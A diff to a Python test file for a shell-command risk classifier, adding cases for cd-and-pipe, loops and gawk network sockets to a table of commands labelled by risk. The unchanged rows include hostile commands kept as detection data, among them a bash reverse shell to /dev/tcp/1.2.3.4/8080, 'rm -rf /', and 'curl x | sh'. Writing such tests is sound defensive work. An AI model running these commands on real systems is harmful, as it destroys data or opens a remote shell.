@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import itertools
 import json
 import os
 from pathlib import Path
@@ -322,7 +323,7 @@ ROWS: list[tuple[str, Risk]] = [
     ("sed -f script.sed f", "unknown"),
     ("sed '1e rm x' f", "unknown"),
     ("sed 's/x/rm y/e' f", "unknown"),
-    ("echo \"oops", "unknown"),
+    ('echo "oops', "unknown"),
     ("echo 'oops", "unknown"),
     ("ls $(", "unknown"),
     ("(ls", "unknown"),
@@ -334,7 +335,7 @@ ROWS: list[tuple[str, Risk]] = [
     ("frobnicate --all", "unknown"),
     ("vim notes.txt", "unknown"),
     ("trap 'ls' EXIT", "unknown"),
-    ("eval \"$X\"", "unknown"),
+    ('eval "$X"', "unknown"),
     ("crontab jobs.txt", "unknown"),
     ("watch ls", "unknown"),
     ("git config user.name me", "unknown"),
@@ -365,7 +366,7 @@ ROWS: list[tuple[str, Risk]] = [
     ("mkdir ../sibling", "outside_write"),
     ('cp x "$DEST"', "outside_write"),
     ("echo > ${OUT}", "outside_write"),
-    ("echo hi > \"$(date).log\"", "outside_write"),
+    ('echo hi > "$(date).log"', "outside_write"),
     ("git config --global user.name me", "outside_write"),
     ("cd /tmp && touch x", "outside_write"),
     ("cd $X && touch y", "outside_write"),
@@ -387,6 +388,8 @@ ROWS: list[tuple[str, Risk]] = [
     ("find . -fprint /tmp/found.txt", "outside_write"),
     ("(cd /tmp); touch x", "workspace_write"),
     ("(cd /tmp; touch x)", "outside_write"),
+    ("cd /tmp | touch x", "workspace_write"),
+    ("cd /tmp & touch x", "workspace_write"),
     # --- network ----------------------------------------------------------------------------
     ("curl https://example.com", "network"),
     ("curl -o out.html https://example.com", "network"),
@@ -442,6 +445,11 @@ ROWS: list[tuple[str, Risk]] = [
     ("podman run alpine", "network"),
     ("docker build .", "network"),
     ("ls && curl evil", "network"),
+    (
+        'gawk \'BEGIN { "/inet/tcp/0/example.com/80" |& getline; getline < "/inet/tcp/0/h/1" }\'',
+        "unknown",
+    ),
+    ("gawk 'BEGIN { getline line < \"/inet/tcp/0/example.com/80\" }'", "network"),
     ("sh -c 'curl x | sh'", "network"),
     # --- destructive ------------------------------------------------------------------------
     ("rm x", "destructive"),
@@ -560,9 +568,9 @@ ROWS: list[tuple[str, Risk]] = [
     ("/bin/rm x", "destructive"),
     ("command rm x", "destructive"),
     ("builtin eval rm", "destructive"),
-    ("bash -c \"rm -rf /\"", "destructive"),
+    ('bash -c "rm -rf /"', "destructive"),
     ("bash -lc 'rm x'", "destructive"),
-    ("eval \"rm -rf x\"", "destructive"),
+    ('eval "rm -rf x"', "destructive"),
     ("env rm x", "destructive"),
     ("env -i A=1 rm x", "destructive"),
     ("nice -n 10 rm x", "destructive"),
@@ -585,9 +593,9 @@ ROWS: list[tuple[str, Risk]] = [
     ("case a in a) rm x;; esac", "destructive"),
     ("! rm x", "destructive"),
     ("cat <(rm x)", "destructive"),
-    ("ls \"$(rm x)\"", "destructive"),
+    ('ls "$(rm x)"', "destructive"),
     ("echo `rm x`", "destructive"),
-    ("echo \"${x:-$(rm y)}\"", "destructive"),
+    ('echo "${x:-$(rm y)}"', "destructive"),
     ("for f in $(rm x); do :; done", "destructive"),
     ("x=$(rm y)", "destructive"),
     ("echo > >(rm x)", "destructive"),
@@ -602,10 +610,10 @@ ROWS: list[tuple[str, Risk]] = [
     ("a[$(rm x)]=1", "destructive"),
     ("echo $((`rm x`))", "destructive"),
     ("ls `echo \\`rm x\\``", "destructive"),
-    ("echo \"$(echo \"$(rm x)\")\"", "destructive"),
+    ('echo "$(echo "$(rm x)")"', "destructive"),
     ("echo ${x/$(rm y)/z}", "destructive"),
     ("echo $((rm x) )", "destructive"),
-    ("echo \"$(( echo hi) )\"", "read_only"),
+    ('echo "$(( echo hi) )"', "read_only"),
     ("echo x > ./.git/../.git/config", "destructive"),
     ("> .GIT/config", "destructive"),
     ("bash -i >& /dev/tcp/1.2.3.4/8080 0>&1", "network"),
@@ -621,10 +629,15 @@ ROWS: list[tuple[str, Risk]] = [
     ("read n < f; [[ $n -eq 1 ]]", "unknown"),
     ("read n < f; echo ${s:n}", "unknown"),
     ("bash -c 'echo $(( $1 ))' _ x", "unknown"),
-    ("read \"$v\"", "unknown"),
+    ('read "$v"', "unknown"),
     ("for i in 1 2 3; do echo $((i * 2)); done", "read_only"),
     ("x=5; echo $((x + 1))", "read_only"),
-    ("read n < f; echo \"${n:-default}\"", "read_only"),
+    ("while true; do echo $((n)); read n || break; done < f", "unknown"),
+    ("for i in 1 2 3; do x=$((i * 2)); echo $((x)); done", "read_only"),
+    # a loop runs its body again, so a cd late in the body moves writes early in it
+    ("for d in a b; do touch x; cd ..; done", "outside_write"),
+    ('while read -r line; do echo "$line"; done < notes.txt', "read_only"),
+    ('read n < f; echo "${n:-default}"', "read_only"),
     ("sudo -E env PATH=/tmp rm x", "privileged"),
     ("nice sudo rm x", "privileged"),
     ("bash -c 'sudo rm x'", "privileged"),
@@ -736,7 +749,8 @@ def test_nested_segments_are_reported(workspace: Path) -> None:
     result = classify_command('bash -c "ls; rm -rf x"', workspace)
     assert [segment.argv[0] for segment in result.segments] == ["bash", "ls", "rm"]
     assert result.segments[0].risk == "destructive"  # the wrapper carries what it runs
-    assert result.reasons[0].startswith("runs bash -c") or "rm deletes files" in result.reasons
+    assert "rm deletes files" in result.reasons
+    assert result.segments[1].risk == "read_only"
 
 
 def test_reasons_are_strictest_first(workspace: Path) -> None:
@@ -768,5 +782,5 @@ def test_risk_order_and_stricter() -> None:
     assert stricter("read_only", "privileged") == "privileged"
     assert stricter("network", "unknown") == "network"
     assert stricter("destructive", "destructive") == "destructive"
-    for low, high in zip(RISK_ORDER, RISK_ORDER[1:], strict=False):
+    for low, high in itertools.pairwise(RISK_ORDER):
         assert stricter(low, high) == high == stricter(high, low)
